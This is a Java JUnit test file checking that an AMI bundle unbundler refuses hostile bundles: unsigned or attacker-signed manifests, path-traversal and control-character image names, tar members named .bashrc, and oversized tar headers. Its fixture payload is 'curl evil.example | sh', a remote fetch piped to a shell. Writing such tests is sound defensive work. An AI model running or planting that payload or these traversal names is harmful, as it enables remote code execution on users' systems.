package org.amibundle.bundle;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPairGenerator;
import java.security.NoSuchAlgorithmException;
import java.security.PrivateKey;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.Random;
import java.util.stream.Stream;
import org.amibundle.BadInputException;
import org.amibundle.IntegrityException;
import org.amibundle.bundle.convert.ConvertRequest;
import org.amibundle.bundle.convert.Converter;
import org.amibundle.bundle.verify.BundleVerifier;
import org.amibundle.bundle.verify.VerifyReport;
import org.amibundle.bundle.verify.VerifyRequest;
import org.amibundle.manifest.ManifestReader;
import org.amibundle.testing.ExternalTool;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bundles made to attack the unbundler (issue 20, rows 3 and 5): unsigned or foreign-signed
 * manifests, image names that would land on a dotfile or outside the directory, tar members named
 * otherwise than the manifest, tar headers and sparse maps announcing more than the manifest's
 * image size. Each is refused before anything is written, or written only as the signed manifest
 * says.
 */
class UnbundleAttacksTest {

  private static final byte[] EVIL = "curl evil.example | sh\n".getBytes(StandardCharsets.US_ASCII);
  private static final byte[] ORIGINAL = "alias ll='ls -l'\n".getBytes(StandardCharsets.US_ASCII);

  @TempDir Path work;
  private Path src;
  private Path bundleDir;
  private Path out;

  @BeforeEach
  void directories() throws IOException {
    src = Files.createDirectory(work.resolve("src"));
    bundleDir = Files.createDirectory(work.resolve("bundle"));
    out = Files.createDirectory(work.resolve("out"));
  }

  /** GNU tar's stream of one file {@code name} holding {@code content}. */
  private byte[] tarOf(String name, byte[] content) throws IOException {
    Files.write(src.resolve(name), content);
    return ExternalTool.run(src, "tar", "-c", "-f", "-", name).orFail().stdout();
  }

  private static UnbundleResult unbundle(UnbundleRequest request) throws IOException {
    return new Unbundler().unbundle(request);
  }

  private UnbundleRequest defaultRequest(Path manifest, PrivateKey key) throws IOException {
    return UnbundleRequest.of(manifest, key, ImageTarget.directory(out));
  }

  private List<String> outputFiles() throws IOException {
    try (Stream<Path> files = Files.list(out)) {
      return files.map(p -> p.getFileName().toString()).sorted().toList();
    }
  }

  private static PrivateKey attackersKey() throws NoSuchAlgorithmException {
    KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
    generator.initialize(2048);
    return generator.generateKeyPair().getPrivate();
  }

  /**
   * Beside the user's {@code .bashrc} in the destination, an unsigned bundle whose manifest and tar
   * member are both named {@code .bashrc}; {@code how} unbundles it, which must fail with {@code
   * expected} in its message and leave the user's file alone.
   */
  private void unsignedDotBashrcBundle_isRefused(
      java.util.function.UnaryOperator<UnbundleRequest> how, String expected) throws IOException {
    Files.write(out.resolve(".bashrc"), ORIGINAL);
    Path manifest =
        HandMadeBundle.write(
            bundleDir, ".bashrc", tarOf(".bashrc", EVIL), EVIL.length, Optional.empty());

    BadInputException e =
        assertThrows(
            BadInputException.class,
            () -> unbundle(how.apply(defaultRequest(manifest, Fixtures.userKey()))));

    assertTrue(e.getMessage().contains(expected), e.getMessage());
    assertArrayEquals(ORIGINAL, Files.readAllBytes(out.resolve(".bashrc")));
    assertEquals(List.of(".bashrc"), outputFiles());
  }

  @Test
  void anUnsignedBundleNamedDotBashrc_isRefusedByDefault_andTheUsersBashrcIsUntouched()
      throws IOException {
    unsignedDotBashrcBundle_isRefused(
        request -> request, "no signature element: it was never signed");
  }

  @Test
  void anUnsignedBundleNamedDotBashrc_isRefusedByDefault_pointingToTheWayToSkipTheCheck()
      throws IOException {
    unsignedDotBashrcBundle_isRefused(request -> request, "(the skip-signature-check setting)");
  }

  @Test
  void anUnsignedBundleNamedDotBashrc_withTheCheckSkipped_isStillNotWrittenUnderThatName()
      throws IOException {
    unsignedDotBashrcBundle_isRefused(
        UnbundleRequest::withoutSignatureCheck, "the manifest names the image '.bashrc'");
  }

  @Test
  void aTarMemberNamedDotBashrc_inASignedBundleNamedImg_isWrittenAsImg_withANote()
      throws IOException {
    Files.write(out.resolve(".bashrc"), ORIGINAL);
    Path manifest = HandMadeBundle.write(bundleDir, "img", tarOf(".bashrc", EVIL), EVIL.length);

    UnbundleResult result = unbundle(defaultRequest(manifest, Fixtures.userKey()));

    assertEquals(Optional.of(out.resolve("img")), result.image());
    assertEquals("img", result.name());
    assertEquals(SignatureOutcome.VERIFIED, result.signature());
    assertEquals(1, result.notes().size(), result.notes().toString());
    assertTrue(result.notes().get(0).contains("'.bashrc'"), result.notes().get(0));
    assertArrayEquals(EVIL, Files.readAllBytes(out.resolve("img")));
    assertArrayEquals(ORIGINAL, Files.readAllBytes(out.resolve(".bashrc")));
    assertEquals(List.of(".bashrc", "img"), outputFiles());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"../escaped", "sub/img", "img\nWrote /etc/passwd", "img\u0085x", "..", ".hidden"})
  void aSignedManifestNamingTheImageOutsideAPlainFileName_isRefused(String name)
      throws IOException {
    Path manifest = HandMadeBundle.write(bundleDir, name, tarOf("img", EVIL), EVIL.length);

    BadInputException e =
        assertThrows(
            BadInputException.class, () -> unbundle(defaultRequest(manifest, Fixtures.userKey())));

    assertTrue(e.getMessage().contains("not a plain file name"), e.getMessage());
    assertFalse(e.getMessage().chars().anyMatch(Character::isISOControl), e.getMessage());
    assertEquals(List.of(), outputFiles());
    assertFalse(Files.exists(work.resolve("escaped")));
  }

  @Test
  void aBundleForTheUsersCertificate_signedByAnAttacker_isRefusedByDefault()
      throws IOException, NoSuchAlgorithmException {
    Path manifest =
        HandMadeBundle.write(
            bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.of(attackersKey()));

    IntegrityException e =
        assertThrows(
            IntegrityException.class, () -> unbundle(defaultRequest(manifest, Fixtures.userKey())));

    assertTrue(
        e.getMessage().contains("does not verify with the public half of the private key"),
        e.getMessage());
    assertEquals(List.of(), outputFiles());
  }

  @Test
  void anUnsignedBundle_unbundles_whenTheCheckIsSkippedOnPurpose() throws IOException {
    Path manifest =
        HandMadeBundle.write(bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.empty());

    UnbundleResult result =
        unbundle(defaultRequest(manifest, Fixtures.userKey()).withoutSignatureCheck());

    assertEquals(SignatureOutcome.SKIPPED, result.signature());
    assertArrayEquals(EVIL, Files.readAllBytes(out.resolve("img")));
  }

  @Test
  void anEuca2oolsBundleMarkedUnsigned_isRefusedByDefault_andUnbundlesWhenTheCheckIsSkipped()
      throws IOException {
    // euca2ools without a private key writes <signature>UNSIGNED</signature> (spec manifest.md).
    Path manifest =
        HandMadeBundle.write(bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.empty());
    String raw = Files.readString(manifest, StandardCharsets.UTF_8);
    Files.writeString(
        manifest,
        raw.replace("</manifest>", "<signature>UNSIGNED</signature></manifest>"),
        StandardCharsets.UTF_8);

    BadInputException e =
        assertThrows(
            BadInputException.class, () -> unbundle(defaultRequest(manifest, Fixtures.userKey())));
    UnbundleResult skipped =
        unbundle(defaultRequest(manifest, Fixtures.userKey()).withoutSignatureCheck());

    assertTrue(e.getMessage().contains("'UNSIGNED'"), e.getMessage());
    assertEquals(SignatureOutcome.SKIPPED, skipped.signature());
    assertArrayEquals(EVIL, Files.readAllBytes(out.resolve("img")));
  }

  @Test
  void anUnsignedBundle_openedWithEc2sKey_isRefused_unlessTheCheckIsSkipped() throws IOException {
    Path manifest =
        HandMadeBundle.write(bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.empty());

    BadInputException e =
        assertThrows(
            BadInputException.class, () -> unbundle(defaultRequest(manifest, Fixtures.ec2Key())));
    assertTrue(e.getMessage().contains("opens only EC2's copy"), e.getMessage());
    assertEquals(List.of(), outputFiles());

    UnbundleResult skipped =
        unbundle(defaultRequest(manifest, Fixtures.ec2Key()).withoutSignatureCheck());
    assertEquals(SignatureOutcome.SKIPPED, skipped.signature());
    assertArrayEquals(EVIL, Files.readAllBytes(out.resolve("img")));
  }

  /**
   * An attacker bundles with a key pair of their own as "user" and the victim's certificate
   * (public) as "EC2's": the victim's key opens only EC2's copy, which once passed as "no check
   * possible".
   */
  @Test
  void aBundleWrappedToTheVictimInEc2sPlace_isRefused_andNothingIsWritten() throws IOException {
    Path image = Files.write(work.resolve("img"), EVIL);
    BundleCredentials victim = Fixtures.credentials();
    BundleCredentials attacker =
        new BundleCredentials(victim.ec2Certificate(), Fixtures.ec2Key(), victim.userCertificate());
    new Bundler()
        .bundle(
            BundleRequest.builder(ImageSource.file(image), bundleDir, attacker)
                .accountId(Fixtures.ACCOUNT)
                .build());
    Path manifest = bundleDir.resolve("img.manifest.xml");

    BadInputException e =
        assertThrows(
            BadInputException.class, () -> unbundle(defaultRequest(manifest, Fixtures.userKey())));

    assertTrue(e.getMessage().contains("not the user key that signed"), e.getMessage());
    assertEquals(List.of(), outputFiles());
  }

  @Test
  void anUnsignedBundle_isNotConvertedByDefault_andNoTargetAppears() throws IOException {
    Path manifest =
        HandMadeBundle.write(bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.empty());
    Path target = out.resolve("disk.img");

    assertThrows(
        BadInputException.class,
        () ->
            new Converter()
                .convert(
                    new ConvertRequest(
                        ManifestReader.read(manifest),
                        PartSource.directory(bundleDir),
                        Fixtures.userKey(),
                        SignatureCheck.withPrivateKey(),
                        target,
                        OptionalLong.of(1 << 20),
                        false,
                        false)));

    assertEquals(List.of(), outputFiles());
  }

  @Test
  void anUnsignedBundle_failsTheSignatureCheckOfVerify_withTheUsersPrivateKey() throws IOException {
    Path manifest =
        HandMadeBundle.write(bundleDir, "img", tarOf("img", EVIL), EVIL.length, Optional.empty());

    VerifyReport report =
        new BundleVerifier()
            .verify(
                new VerifyRequest(
                    ManifestReader.read(manifest), PartSource.directory(bundleDir),
                    SignatureCheck.withPrivateKey(), Optional.of(Fixtures.userKey())));

    assertFalse(report.passed());
    assertEquals(List.of("signature"), report.failures().stream().map(c -> c.name()).toList());
  }

  @Test
  void aTarHeaderAnnouncing3GiB_againstAManifestOf1MiB_writesNotAByte() throws IOException {
    byte[] data = new byte[2 << 20];
    new Random(3).nextBytes(data);
    byte[] tar = tarOf("img", data);
    byte[] header = tar.clone();
    // size field: 12 bytes at 124, then the checksum (8 bytes at 148) made anew by tar's rule
    byte[] size = String.format("%011o", 3L << 30).getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(size, 0, header, 124, size.length);
    java.util.Arrays.fill(header, 148, 156, (byte) ' ');
    long sum = 0;
    for (int i = 0; i < 512; i++) {
      sum += header[i] & 0xff;
    }
    byte[] checksum = String.format("%06o\0 ", sum).getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(checksum, 0, header, 148, checksum.length);
    Path manifest = HandMadeBundle.write(bundleDir, "img", header, 1 << 20);
    ByteArrayOutputStream stdout = new ByteArrayOutputStream();

    IntegrityException e =
        assertThrows(
            IntegrityException.class,
            () ->
                unbundle(
                    new UnbundleRequest(
                        ManifestReader.read(manifest),
                        PartSource.directory(bundleDir),
                        Fixtures.userKey(),
                        SignatureCheck.withPrivateKey(),
                        ImageTarget.stream(stdout))));

    assertTrue(e.getMessage().contains("announces an image of 3221225472 bytes"), e.getMessage());
    assertEquals(0, stdout.size(), "bytes written before the refusal");
  }
}
